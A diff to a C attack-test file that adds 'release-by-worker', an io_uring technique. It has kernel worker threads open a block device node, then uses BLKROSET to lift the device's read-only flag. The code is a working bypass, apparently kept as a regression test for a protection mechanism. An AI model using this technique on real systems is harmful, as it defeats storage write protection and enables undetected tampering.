@@ -9,17 +9,20 @@
 #include <poll.h>
 #include <pthread.h>
 #include <sched.h>
+#include <stdio.h>
 #include <string.h>
 #include <sys/ioctl.h>
 #include <sys/mman.h>
 #include <sys/mount.h>
+#include <sys/stat.h>
 #include <sys/syscall.h>
 
 #include "tests/attacks/attacks.h"
 
 enum {
         ENTRIES = 4,
-        TRIES = 400
+        TRIES = 400,
+        WORKERS = 50
 };
 
 typedef struct Ring {
@@ -342,8 +345,70 @@ static int attack_release(Attempt *a) {
         return r < 0 ? r : sys(ioctl(fd, BLKROSET, &flag));
 }
 
+typedef struct Worker {
+        const Attempt *attempt;
+        const char *fifo; /* that nobody writes to */
+        int result;
+} Worker;
+
+/* The first entry has its worker wait, so that the kernel makes another one for the second when the caller
+ * comes back from a system call. That one has the caller's registers for as long as it lives. */
+static void *open_by_worker(void *userdata) {
+        Worker *worker = userdata;
+        CLEANUP(ring_close) Ring ring = {.fd = -1};
+        struct io_uring_sqe entries[] = {opening(worker->fifo, O_RDONLY),
+                                         opening(worker->attempt->volume->node, O_RDONLY | O_NONBLOCK)};
+        const unsigned *head;
+
+        worker->result = ring_open(&ring, 0);
+        if (worker->result < 0)
+                return NULL;
+        for (size_t i = 0; i < ELEMENTS(entries); i++)
+                entries[i].flags = IOSQE_ASYNC;
+        put(&ring, entries, ELEMENTS(entries));
+        if (syscall(SYS_io_uring_enter, ring.fd, ELEMENTS(entries), 0, 0, NULL, 0) < 0) {
+                worker->result = -errno;
+                return NULL;
+        }
+        head = ring_word(&ring, ring.p.cq_off.head);
+        while (__atomic_load_n(ring_word(&ring, ring.p.cq_off.tail), __ATOMIC_ACQUIRE) == *head)
+                (void)mount("none", "/proc/self/none", "none", 0, NULL);
+        worker->result =
+                ((const struct io_uring_cqe *)(const void *)(ring.queues + ring.p.cq_off.cqes))->res;
+        return NULL;
+}
+
+static int attack_release_by_worker(Attempt *a) {
+        CLEANUP_CLOSE int fd = -1;
+        Worker worker = {.attempt = a};
+        char fifo[PATH_MAX];
+        int flag = 0, r = -EPERM;
+
+        (void)snprintf(fifo, sizeof(fifo), "%s/fifo", a->volume->scratch);
+        worker.fifo = fifo;
+        if (mkfifo(fifo, 0600) < 0)
+                return -errno;
+        for (int i = 0; i < WORKERS && r == -EPERM; i++) { /* each thread has workers of its own */
+                CLEANUP_CLOSE int other_end = -1;
+                pthread_t thread;
+
+                r = -pthread_create(&thread, NULL, open_by_worker, &worker);
+                if (r < 0)
+                        break;
+                pthread_join(thread, NULL);
+                other_end = open(fifo, O_WRONLY | O_NONBLOCK); /* lets go of whoever waits still */
+                r = worker.result;
+        }
+        unlink(fifo);
+        if (r == -ENOSYS)
+                return impossible(a, "this kernel gives nobody a ring");
+        fd = r;
+        return r < 0 ? r : sys(ioctl(fd, BLKROSET, &flag));
+}
+
 static const Attack list[] = {
         {"release-by-ring", NEEDS_ROOT | NEEDS_NODE | LEAVES_NO_TRACE, NULL, attack_release},
+        {"release-by-worker", NEEDS_ROOT | NEEDS_NODE | LEAVES_NO_TRACE, NULL, attack_release_by_worker},
         {"uring-openat", 0, NULL, attack_openat},
         {"uring-create", 0, NULL, attack_create},
         {"uring-truncate-open", 0, NULL, attack_truncate},
